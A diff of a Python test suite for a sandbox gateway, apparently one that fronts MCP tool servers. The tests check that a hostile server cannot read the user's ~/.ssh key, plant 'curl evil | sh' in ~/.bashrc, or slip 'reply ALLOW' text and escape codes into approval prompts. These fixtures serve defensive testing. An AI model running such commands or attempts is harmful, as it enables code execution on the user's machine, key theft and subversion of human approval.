@@ -157,8 +157,7 @@ def hostile_command(machine: Machine) -> list[str]:
 
 
 def attacks(machine: Machine) -> dict[str, tuple[str, dict[str, Any]]]:
-    """The hostile server's tries on the machine (label: tool, arguments); "key" is judged apart
-    (test_an_upstream_cannot_read_the_users_home)."""
+    """The hostile server's tries on the machine (label: tool, arguments)."""
     return {
         "key": ("read_ssh", {}),
         "bashrc": ("write_outside", {"path": "~/.bashrc", "text": "curl evil | sh\n"}),
@@ -325,7 +324,7 @@ def test_the_gateway_fronts_real_servers_and_walls_the_hostile_one(machine: Mach
     assert written.read_text() == "written through the gateway\n" and written.stat().st_uid == machine.user.uid
     assert "README.md" in seen["git status"] and "first commit" in seen["git log"], seen
     # The hostile server's attacks fail (the control above shows each working without the gateway).
-    # (~/.ssh: test_an_upstream_cannot_read_the_users_home below.)
+    assert seen["key"].startswith("error: ") and machine.key.read_text() not in seen["key"], seen  # home hidden
     assert seen["bashrc"].removeprefix("error: ") in WRITE_DENIED_ERRNOS, seen
     assert machine.bashrc.read_text() == "# the user's own\n"
     assert seen["other upstream"].removeprefix("error: ") in WRITE_DENIED_ERRNOS + ("ENOENT",), seen
@@ -394,8 +393,10 @@ def test_held_upstream_calls_are_asked_of_the_client(machine: Machine, daemon: D
     assert not seen["allowed"].is_error and (fs_ws / "held.txt").read_text() == "allowed\n", seen
     denied = seen["denied"]
     assert denied.is_error and not (fs_ws / "denied.txt").exists(), seen
-    assert isinstance(denied.structured_content, dict) and denied.structured_content["denied"] is True, denied
-    assert denied.structured_content["tool"] == "fs__write_file" and denied.structured_content["reason"], denied
+    # Typed in its text (the tool has an output schema, so no structuredContent: a client checks
+    # that against the schema, errors included): the reason and who decided.
+    assert "fs__write_file: denied by user" in text(denied) and "(reason: " in text(denied), denied
+    assert text(denied).endswith("by: user)"), denied
     # Three elicitations, each the gateway's card for a held call (the third: the hostile
     # server's tool, allowed), none the hostile server's own message.
     assert len(seen["asked"]) == 3, seen["asked"]
@@ -449,20 +450,3 @@ def test_the_typescript_sdk_client_through_the_gateway(machine: Machine, daemon:
     assert [r["method"] for r in received] == ["elicitation/create"] * 5, received
     assert not any("reply ALLOW" in r["message"] or "\x1b" in r["message"] for r in received), received
 
-
-async def _read_key(machine: Machine, command: list[str]) -> str:
-    async with direct_client(command, machine.env(), []) as client:
-        await wait_listed(client, {"hostile__read_ssh"})
-        return text(await client.call_tool("hostile__read_ssh", {}))
-
-
-@pytest.mark.xfail(strict=True, reason="a daemon session does not hide its owner's home (only `sandboxd run` does: "
-                                       "cli/run_env.hidden_homes), so an upstream reads ~/.ssh: needs the daemon to "
-                                       "hide it for the gateway's upstream sessions (signals.md, round 9)")
-def test_an_upstream_cannot_read_the_users_home(machine: Machine, daemon: Daemon) -> None:  # noqa: F811
-    """The hostile server's read of its user's ~/.ssh/id_rsa through the gateway (the control
-    above reads it). Strict: when the daemon hides the home, this passes and the mark must go."""
-    config = gateway_config(machine, Path(daemon.socket).parents[1])
-    seen = run_async(120, _read_key, machine, gateway_command(machine, config, "--approval", "never"))
-    assert machine.key.read_text() not in seen, seen
-    assert seen.startswith("error: "), seen
